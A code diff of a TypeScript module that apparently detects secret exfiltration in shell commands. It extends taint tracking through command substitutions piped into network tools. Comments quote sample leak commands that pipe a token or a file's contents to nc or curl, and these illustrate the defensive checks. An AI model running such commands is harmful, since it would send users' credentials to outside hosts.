@@ -17,8 +17,8 @@ import type { CommandView } from "../command.js";
 import { resolvePath } from "../paths.js";
 import { display, resolveText, secretReads, type SecretHit } from "./secrets-reads.js";
 import { isSecretContainer, isSecretPathIn, secretMatcher } from "./secrets-paths.js";
-import { environReads, isConnectionVariable, outputSource, secretVariableIn, taintedPrint, variableInInput, variableSource, type Source } from "./exfiltration-sources.js";
-import { advice, destination, isCredentialWord, isQueryCredential, isUrlOperand, isUse, readsCredentialInput, REQUESTERS, type Destination } from "./exfiltration-requests.js";
+import { environReads, isConnectionVariable, outputSource, printsItsWords, secretVariableIn, taintedPrint, variableInInput, variableSource, type Source } from "./exfiltration-sources.js";
+import { advice, destination, isCredentialWord, isQueryCredential, isUrlOperand, readsHeaderFile, isUse, readsCredentialInput, REQUESTERS, type Destination } from "./exfiltration-requests.js";
 
 /** Tools that send what they are given, or read, over the network. */
 const NETWORK: ReadonlySet<string> = new Set([
@@ -71,9 +71,9 @@ const FILE: Source = { what: "a secret", service: null, credential: false };
 
 interface Taint {
   /** Pipelines (by ordinal): the first stage that is a source, and its source. */
-  pipes: Map<number, { stage: number; source: Source }>;
+  pipes: Map<number, { stage: number; source: Source; view: CommandView }>;
   /** `$(...)` / `<(...)` / backquotes whose commands are a source: range and source. */
-  substitutions: Array<[number, number, Source]>;
+  substitutions: Array<[number, number, Source, CommandView]>;
   /** Variables assigned from such a substitution, and its source. */
   variables: Map<string, Source>;
 }
@@ -89,7 +89,7 @@ function taintOf(facts: Facts, views: readonly CommandView[], sources: Map<Comma
     const sc = v.sc;
     if (sc.pipeline >= 0) {
       const first = t.pipes.get(sc.pipeline);
-      if (first === undefined || sc.stage < first.stage) t.pipes.set(sc.pipeline, { stage: sc.stage, source });
+      if (first === undefined || sc.stage < first.stage) t.pipes.set(sc.pipeline, { stage: sc.stage, source, view: v });
     }
     // The views are this parse's (viewsOf groups them), so its constructs are theirs.
     walked ??= new Uint8Array(facts.constructs.length);
@@ -97,7 +97,7 @@ function taintOf(facts: Facts, views: readonly CommandView[], sources: Map<Comma
       if (walked[c] === 1) break;
       walked[c] = 1;
       const k = facts.constructs[c] as Facts["constructs"][number];
-      if (k.type === "command_substitution" || k.type === "process_substitution") t.substitutions.push([k.start, k.end, source]);
+      if (k.type === "command_substitution" || k.type === "process_substitution") t.substitutions.push([k.start, k.end, source, v]);
     }
   }
   if (t.substitutions.length > 0) {
@@ -140,17 +140,19 @@ function leakOf(view: CommandView, ctx: CheckContext, taint: Taint, own: readonl
   let to: Destination | null = null;
   // Whether a secret is sent away, not used with its own service (files always are).
   // k: the word it sits in; -1 for the input.
-  const sent = (source: Source, k: number): boolean => {
+  // from: the command that printed it, when it reaches the request through a pipe or `<(...)`.
+  const sent = (source: Source, k: number, from?: CommandView): boolean => {
     if (source === FILE) return true;
-    const credential = k > 0 ? isCredentialWord(view, k) || isQueryCredential(view, k, source.service) : k === -1 && readsCredentialInput(view);
+    const credential = k > 0 ? isCredentialWord(view, k) || isQueryCredential(view, k, source.service) || (from !== undefined && readsHeaderFile(view, k, from))
+      : k === -1 && (readsCredentialInput(view) || (from !== undefined && readsHeaderFile(view, k, from)));
     return !isUse(source, to ??= destination(view), credential);
   };
   const piped = sc.pipeline >= 0 ? taint.pipes.get(sc.pipeline) : undefined;
-  if (piped !== undefined && sc.stage > piped.stage && sent(piped.source, -1)) return { how: `${piped.source.what} piped into it`, source: piped.source };
+  if (piped !== undefined && sc.stage > piped.stage && sent(piped.source, -1, piped.view)) return { how: `${piped.source.what} piped into it`, source: piped.source };
   const [start, end] = extent(view);
-  for (const [s, e, source] of taint.substitutions) {
+  for (const [s, e, source, from] of taint.substitutions) {
     if (s < start || e > end || (s <= sc.start && e >= sc.end)) continue;
-    if (sent(source, view.words.findIndex((w) => w.start <= s && e <= w.end))) {
+    if (sent(source, view.words.findIndex((w) => w.start <= s && e <= w.end), from)) {
       return { how: source === FILE ? "a secret read by a command substitution in its arguments" : `${source.what} through a command substitution in its arguments`, source };
     }
   }
@@ -292,12 +294,13 @@ function check(facts: Facts, ctx: CheckContext, all: readonly CommandView[]): Fi
   let taint: Taint = sources.size > 0 ? taintOf(facts, views, sources) : { pipes: new Map(), substitutions: [], variables: new Map() };
   copiedSecrets(facts, taint);
   // A printer of a variable that holds a secret is a source too (`T=$(cat F); echo "$T" | nc h 80`),
-  // and its own substitution may fill another variable: followed a few rounds deep.
-  for (let round = 0; round < 3 && taint.variables.size > 0; round++) {
+  // or of a substitution that is one (`echo "k: $(gh auth token)" | curl -H @- URL`); its own
+  // substitution may fill another variable: followed a few rounds deep.
+  for (let round = 0; round < 3 && (taint.variables.size > 0 || taint.substitutions.length > 0); round++) {
     let added = false;
     for (const v of views) {
       if (sources.has(v)) continue;
-      const printed = taintedPrint(v, taint.variables);
+      const printed = taintedPrint(v, taint.variables) ?? substitutedPrint(v, taint);
       if (printed !== null) {
         sources.set(v, printed);
         added = true;
@@ -325,6 +328,17 @@ function check(facts: Facts, ctx: CheckContext, all: readonly CommandView[]): Fi
     }
   }
   return out ?? NO_FINDINGS;
+}
+
+/** A printer with a source's substitution in its words: what it prints holds the secret. */
+function substitutedPrint(view: CommandView, taint: Taint): Source | null {
+  if (taint.substitutions.length === 0 || !printsItsWords(view)) return null;
+  for (let k = 1; k < view.words.length; k++) {
+    const w = view.words[k] as Word;
+    const hit = taint.substitutions.find(([s, e]) => s >= w.start && e <= w.end);
+    if (hit !== undefined) return hit[2];
+  }
+  return null;
 }
 
 /** `t=$GITHUB_TOKEN`, `export T="${NPM_TOKEN}"`: a variable that holds a copy of a secret variable holds the secret. */
